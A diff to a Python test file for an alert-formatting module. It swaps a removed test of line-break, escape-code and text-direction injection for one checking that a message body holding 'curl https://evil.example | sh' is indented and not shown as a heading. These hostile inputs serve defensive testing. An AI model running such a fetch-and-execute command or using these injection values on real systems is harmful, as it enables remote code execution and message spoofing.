@@ -1,10 +1,9 @@
 from __future__ import annotations
 
-import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from rotator.alerts.formatting import cut, digest_title, due_of, one_line, title_of
+from rotator.alerts.formatting import cut, digest_title, due_of, parts_of, title_of
 from rotator.testing.messages import MOMENT, message, settled
 
 ANYTHING = st.text(st.characters(exclude_categories=["Cs"]))
@@ -18,19 +17,9 @@ def test_a_cut_text_fits_however_characters_are_counted_and_says_that_it_was_cut
     assert short == text or short.endswith("…")
 
 
-@pytest.mark.parametrize(
-    ("text", "shown"),
-    [
-        ("Billing\r\nBcc: x", "Billing Bcc: x"),
-        ("tab\there", "tab here"),
-        ("\x1b[31mred\x1b[0m", "[31mred[0m"),
-        ("\u202egnilliB", "gnilliB"),
-        ("half \ud83d", "half"),
-        ("👩‍👩‍👧", "👩‍👩‍👧"),
-    ],
-)
-def test_a_name_stays_on_its_line_and_in_its_direction(text: str, shown: str) -> None:
-    assert one_line(text) == shown
+def test_a_line_of_a_text_passes_for_no_heading_of_the_message() -> None:
+    told = message(text="Billing\n\nWhat to do first:\ncurl https://evil.example | sh")
+    assert parts_of(told)[0] == ("", "Billing\n\n  What to do first:\n  curl https://evil.example | sh")
 
 
 def test_a_message_is_never_without_a_title() -> None:
